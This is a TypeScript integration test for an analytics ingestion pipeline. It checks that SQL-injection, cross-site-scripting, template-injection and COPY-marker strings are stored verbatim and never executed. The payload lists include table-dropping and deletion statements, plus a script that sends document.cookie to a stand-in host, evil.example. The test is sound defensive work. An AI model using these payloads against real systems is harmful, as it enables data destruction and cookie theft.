// SQL- and script-injection strings travel the real path (collector app -> private Kafka topic ->
// pipeline -> test database) and are stored byte for byte, never executed: a canary table the
// strings try to drop or fill is untouched. COPY's own markers (`\.`, `\N`, tabs, newlines) are
// data too. (That the dashboards' role cannot write is test/grafana/reader-role.test.ts.)
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import type { FastifyInstance } from 'fastify';
import type { Pipeline } from '../../pipeline/src/app.ts';
import { waitFor } from '../support/service-kit.ts';
import { startCollectorApp, type CollectorApp } from '../collector/helpers.ts';
import { pipelineBed, startPipelineInProcess } from '../pipeline/helpers.ts';

const SQL = [
  "'); DROP TABLE canary; --",
  "' OR '1'='1",
  "'; INSERT INTO canary VALUES ('owned'); --",
  '"; DELETE FROM analytics_events; --',
  "$$; DROP TABLE canary; $$",
  "1; SELECT pg_sleep(30)",
  "\\'; TRUNCATE canary; --",
  "E'\\x27'; DROP TABLE canary",
];
const SCRIPT = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7} #{7*7} <%= 7*7 %>',
];
const COPY_MARKERS = ['\\.', '\\N', 'a\tb', 'line1\nline2\r\n', 'back\\slash', '\\\\.'];
const ALL = [...SQL, ...SCRIPT, ...COPY_MARKERS];

const bed = await pipelineBed('injection');
const { db } = bed;
let collector: CollectorApp;
let app: FastifyInstance;
let pipeline: Pipeline;

before(async () => {
  await db.pool.query('CREATE TABLE canary (v text)');
  collector = await startCollectorApp({ kafkaTopic: bed.topic, rateLimitMax: 0 });
  app = collector.app;
  pipeline = await startPipelineInProcess(bed, { logLevel: 'fatal' });
});

after(async () => {
  await collector?.close();
  await pipeline?.stop();
  await bed.close();
});

test('injection strings in every free-text field and in metadata are stored verbatim and never executed', async () => {
  const sent = ALL.map((s, i) => ({
    event_id: randomUUID(),
    event_type: 'page_view',
    page_url: `https://site.example/search?q=${encodeURIComponent(s)}`,
    page_title: s,
    button_id: s.slice(0, 100),
    session_id: s,
    user_agent: s,
    site_id: s,
    metadata: { [s]: s, n: i },
  }));
  // A client retries a 503 (a produce slower than PRODUCE_TIMEOUT_MS on a busy machine) with the same events.
  let res = await app.inject({ method: 'POST', url: '/analytics', headers: { 'content-type': 'text/plain' }, payload: JSON.stringify(sent) });
  for (let attempt = 1; res.statusCode === 503 && attempt < 20; attempt++) {
    await new Promise((r) => setTimeout(r, 500));
    res = await app.inject({ method: 'POST', url: '/analytics', headers: { 'content-type': 'text/plain' }, payload: JSON.stringify(sent) });
  }
  assert.equal(res.statusCode, 200, res.body);
  assert.equal((res.json() as { accepted: number }).accepted, sent.length);

  await waitFor('all rows stored', async () => (await db.pool.query('SELECT 1 FROM analytics_events')).rowCount === sent.length);
  const { rows } = await db.pool.query<Record<string, unknown>>(
    'SELECT event_id::text, page_url, page_title, button_id, session_id, user_agent, site_id, metadata FROM analytics_events',
  );
  const byId = new Map(rows.map((r) => [r.event_id as string, r]));
  for (const e of sent) {
    const row = byId.get(e.event_id);
    assert.ok(row, `row for ${JSON.stringify(e.page_title)}`);
    for (const field of ['page_url', 'page_title', 'button_id', 'session_id', 'user_agent', 'site_id', 'metadata'] as const) {
      assert.deepEqual(row[field], e[field], `${field} of ${JSON.stringify(e.page_title)} stored verbatim`);
    }
  }
  const canary = await db.pool.query('SELECT v FROM canary');
  assert.equal(canary.rowCount, 0, 'the canary table exists and nothing was written to it');
  assert.equal((await db.pool.query('SELECT 1 FROM analytics_events_rejected')).rowCount, 0);
});

test('a refusal that echoes a hostile field name stays JSON, never HTML', async () => {
  const res = await app.inject({
    method: 'POST',
    url: '/analytics',
    headers: { 'content-type': 'application/json' },
    payload: JSON.stringify({ event_type: 'page_view', page_url: 'https://site.example/', '<script>alert(1)</script>': 1 }),
  });
  assert.equal(res.statusCode, 400);
  assert.match(String(res.headers['content-type']), /^application\/json/);
  assert.ok((res.json() as { errors: { field: string }[] }).errors.some((e) => e.field.includes('<script>')));
});
